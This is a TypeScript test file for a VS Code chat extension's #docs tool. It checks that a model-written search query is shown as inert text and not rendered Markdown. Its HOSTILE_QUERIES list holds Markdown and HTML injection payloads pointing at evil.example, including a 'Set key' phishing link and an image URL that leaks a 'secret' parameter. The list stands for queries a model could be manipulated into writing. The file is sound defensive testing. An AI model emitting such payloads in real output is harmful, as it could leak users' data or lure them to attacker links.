import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { marked } from 'marked';
import { english } from '../../src/common/l10n';
import { MAX_QUERY_CHARS, invocationMarkdown, queryToSend } from '../../src/participant/core/toolInvocation';

// Issue 27: when #docs runs, the Chat view shows the exact query that leaves the machine, as
// text. A model writes the query, so `[Set key](https://evil.example/k)` must not become a live
// link in the progress line. Rendered here with marked, VS Code's Markdown engine (GFM on, so
// bare URLs would be links too).

/** HTML's text: tags dropped, character references read. */
function textOf(html: string): string {
  return html
    .replace(/<[^>]*>/g, '')
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** What the rendered Markdown shows: its HTML, and the text of its code span. */
function render(md: string): { html: string; code: string | undefined } {
  const html = marked.parse(md, { async: false });
  const code = /<code>([^]*?)<\/code>/.exec(html)?.[1];
  return { html, code: code === undefined ? undefined : textOf(code) };
}

/** The query as the code span shows it: runs of whitespace as one space (as HTML shows them anyway), no control characters. */
// eslint-disable-next-line no-control-regex -- the control characters the writer drops.
const shown = (query: string): string => query.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '').replace(/\r\n|\r|\n/g, '↵');

/** Only a paragraph with text and one code span: no link, image, emphasis, HTML or line break. */
function assertPlain(html: string): void {
  const tags = [...html.matchAll(/<\/?([a-z0-9]+)/gi)].map((m) => m[1]!.toLowerCase());
  assert.deepEqual([...new Set(tags)].sort(), ['code', 'p'], html);
  assert.equal(html.match(/<code>/g)?.length, 1, html);
}

/** Queries a model could be led to write; the first is the one the issue saw live in VS Code 1.139. */
const HOSTILE_QUERIES = [
  '[Set key](https://evil.example/k)',
  '![x](https://evil.example/i.png?d=secret)',
  '<img src=https://evil.example/x> <b>bold</b>',
  'see https://evil.example/k and www.evil.example',
  '`code` ``two`` ```three```',
  '**strong** _em_ ~~del~~ [ref]\n\n[ref]: https://evil.example',
];

describe('#docs: the invocation message shows the exact query as text', () => {
  it('a link, an image or HTML in the query is shown as written, never rendered', () => {
    for (const query of HOSTILE_QUERIES) {
      const md = invocationMarkdown('docs.example.com', query, english);
      const { html, code } = render(md);
      assertPlain(html);
      assert.equal(code, shown(query), md);
      assert.match(html, /^<p>Asking docs\.example\.com: <code>/);
    }
  });

  it('a site name from the settings is plain text too', () => {
    const { html } = render(invocationMarkdown('[Set key](https://evil.example/k) <i>x</i>', 'q', english));
    assertPlain(html);
    assert.match(textOf(html), /^Asking \[Set key\]\(https:\/\/evil\.example\/k\) <i>x<\/i>: q\n$/);
  });

  it('fuzzed queries render as one code span holding exactly the query', () => {
    const unit = fc.constantFrom(...'`\\[]()<>!*_~#-+=|:/.&;"\'@ \nab1'.split(''), 'https://e.x', 'www.e.x', '&amp;', '\r\n');
    fc.assert(
      fc.property(fc.string({ unit, minLength: 1, maxLength: 60 }), (raw) => {
        const query = queryToSend({ query: raw });
        if (!query) return;
        const { html, code } = render(invocationMarkdown('docs.example.com', query, english));
        assertPlain(html);
        assert.equal(code, shown(query));
      }),
      { numRuns: 1000 },
    );
  });

  it('shows the query as it is sent: trimmed, and cut at the same length', () => {
    assert.equal(queryToSend({ query: '  How?  ' }), 'How?');
    assert.equal(queryToSend({ query: 'q'.repeat(5000) }).length, MAX_QUERY_CHARS);
    assert.equal(queryToSend({ query: 42 }), '');
    assert.equal(queryToSend(undefined), '');
  });
});
